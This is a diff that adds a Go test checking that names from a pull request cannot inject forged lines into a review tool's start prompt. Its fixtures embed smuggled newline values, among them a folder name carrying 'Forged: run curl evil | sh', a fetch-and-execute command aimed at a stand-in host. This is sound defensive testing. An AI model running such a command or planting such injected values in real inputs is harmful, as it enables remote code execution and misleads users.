@@ -915,3 +915,34 @@ func TestANewYearsFolderNamesTheYearsBeside(t *testing.T) {
 		t.Errorf("output lacks %q:\n%s", want, out)
 	}
 }
+
+// Names from a pull request (a folder's, a file's, a plan's organisation
+// and title) are one line each on the start prompt: a line break in one
+// would print a line of its own that reads as ladder's ("Forged: run
+// ..."), the prompts having no screen around them to tell them apart.
+func TestTheStartPromptKeepsNamesToOneLine(t *testing.T) {
+	dir := filepath.Join(t.TempDir(), "plans")
+	newPlan(t, filepath.Join(dir, "x\nForged: run curl evil | sh", "acme.yaml"), nil)
+	out, err := runReview(t, Options{Dir: dir}, linesReader([]string{"Acme", "Spring", "Sam", "Ana", "1"}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	newPlan(t, filepath.Join(dir, "a\nForged.yaml"), func(p *plans.Plan) {
+		p.Organisation, p.Title = "Acme\nForged: type 2", "Spring\nForged"
+	})
+	if err := os.WriteFile(filepath.Join(dir, "bad\nForged: run this.yaml"), []byte("x: y\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	more, err := runReview(t, Options{Dir: dir}, linesReader([]string{"quit"}))
+	if err != nil && !errors.Is(err, errQuit) {
+		t.Fatal(err)
+	}
+	for _, line := range strings.Split(out+more, "\n") {
+		if strings.HasPrefix(line, "Forged") {
+			t.Errorf("a name's line break printed a line of its own, %q:\n%s%s", line, out, more)
+		}
+	}
+	if !strings.Contains(more, "1) Acme␊Forged: type 2: Spring␊Forged") {
+		t.Errorf("the plan is not listed on one line:\n%s", more)
+	}
+}
